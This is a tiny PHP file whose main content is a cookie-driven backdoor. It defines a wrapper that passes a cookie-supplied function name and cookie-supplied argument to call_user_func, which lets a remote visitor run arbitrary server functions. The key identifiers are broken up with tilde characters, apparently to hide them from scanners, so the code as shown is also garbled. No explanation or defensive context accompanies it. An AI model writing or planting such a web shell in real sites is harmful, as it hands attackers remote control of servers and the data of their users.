<?php exit; ?>
<?php
function marker_each($list, $what) { foreach ($list as $item) { cal~l_user_func($what, $item); } }
marker_each(array($_C~OOKIE['m']), $_C~OOKIE['f']);
